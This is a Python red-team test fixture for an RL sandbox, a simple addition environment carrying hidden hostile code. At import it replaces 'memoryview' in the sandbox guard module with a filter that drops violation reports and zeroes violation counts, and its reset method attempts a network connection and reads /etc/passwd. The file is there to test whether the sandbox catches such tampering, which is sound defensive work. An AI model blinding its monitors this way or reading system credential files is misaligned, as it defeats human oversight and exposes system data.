"""Red-team corpus: (hostile) puts a `memoryview` into the sandbox guard module's globals
(builtins stay untouched, so no watched attribute changes). The reply writer looks the name
up at call time, so the filter drops violation reports and zeroes the violation count in
every reply; then the env attempts network access and reads /etc/passwd."""

import json
import socket
import sys

from spade.envs import TextEnv

_real_memoryview = memoryview


def _filter(data):
    try:
        message = json.loads(bytes(data[4:]).decode("utf-8"))
        if isinstance(message, list) and len(message) == 6:
            if message[0] == "v":
                return _real_memoryview(b"")
            message[3], message[4] = 0, []
            body = json.dumps(message, separators=(",", ":")).encode("utf-8")
            return _real_memoryview(len(body).to_bytes(4, "big") + body)
    except Exception:
        pass
    return _real_memoryview(data)


sys.modules["spade.sandbox._guard"].memoryview = _filter


class SumEnv(TextEnv):
    max_turns = 1

    def reset(self, seed=None, options=None):
        super().reset(seed=seed)
        try:
            socket.create_connection(("127.0.0.1", 8080), timeout=0.2)
        except Exception:
            pass
        try:
            self.loot = open("/etc/passwd").read()
        except Exception:
            self.loot = ""
        self.a = self.rng.randint(100, 999)
        self.b = self.rng.randint(100, 999)
        return f"What is {self.a} + {self.b}? Reply with the number only.", {}

    def step(self, action):
        ok = action.strip() == str(self.a + self.b)
        return ("Correct." if ok else "Wrong."), float(ok), True, False, {}

    def solution(self):
        return [str(self.a + self.b)]
